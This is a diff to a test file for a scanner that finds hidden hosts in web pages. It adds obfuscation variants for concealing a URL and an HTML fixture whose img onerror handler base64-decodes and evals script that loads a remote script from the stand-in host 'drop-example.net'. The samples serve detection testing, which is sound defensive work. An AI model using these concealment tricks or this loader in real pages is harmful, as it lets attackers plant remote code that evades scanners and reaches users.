@@ -59,6 +59,13 @@ WAYS = {
     "backwards by a function of its own": f"d('{HIDDEN[::-1]}')",
     "junk between": f"'{'!!'.join(HIDDEN)}'.split('!!').join('')",
     "letters replaced": f"'{HIDDEN.replace('e', '~')}'.replaceAll('~', 'e')",
+    "characters to take away": f"'{'#~'.join(HIDDEN)}'.replace(/[#~]/g, '')",
+    "a function that gives it": f"h() + t(); function h() {{ return '{HIDDEN[:12]}' }}"
+    f"function t() {{ return '{HIDDEN[12:]}'; }}",
+    "base64 backwards": f"d('{b64(HIDDEN).rstrip('=')[::-1]}')",
+    "base64 behind other letters": f"d('{'xQ' + b64(HIDDEN)}'.substring(k))",
+    "codes with a number added": f"d([{','.join(str(ord(c) + 1_777) for c in HIDDEN)}])",
+    "letters of another script": "d('" + "".join(chr(ord(c) + 0x4E00) for c in HIDDEN) + "')",
     "XOR, one key": f"d({js(xored(HIDDEN, chr(23)))})",
     "XOR in base64": f"d('{b64(xored(HIDDEN, chr(90)))}', 90)",
     "XOR in hex, a key in the script": f"d('{xored(HIDDEN, 'k3yword').encode().hex()}', 'k3yword')",
@@ -168,6 +175,12 @@ def test_the_scripts_of_a_page_are_read_and_its_text_is_not():
     reading = read(page, 60)
     assert reading.hidden_hosts == ("drop-example.net",)
     assert [sign.offset for sign in reading.signs if sign.rule.id == "hidden-host"] == [page.index("atob(")]
+
+
+def test_what_a_handler_in_a_page_decodes_is_read():
+    inner = f"var s=document.createElement('script');s.src='{HIDDEN}';document.body.append(s)"
+    page = f'<div><img src="x" id="{b64(inner)}" onerror="eval(atob(this.id))"></div>'
+    assert read(page, 60).hidden_hosts == ("drop-example.net",)
 
 
 def test_what_stands_in_the_code_is_not_hidden():
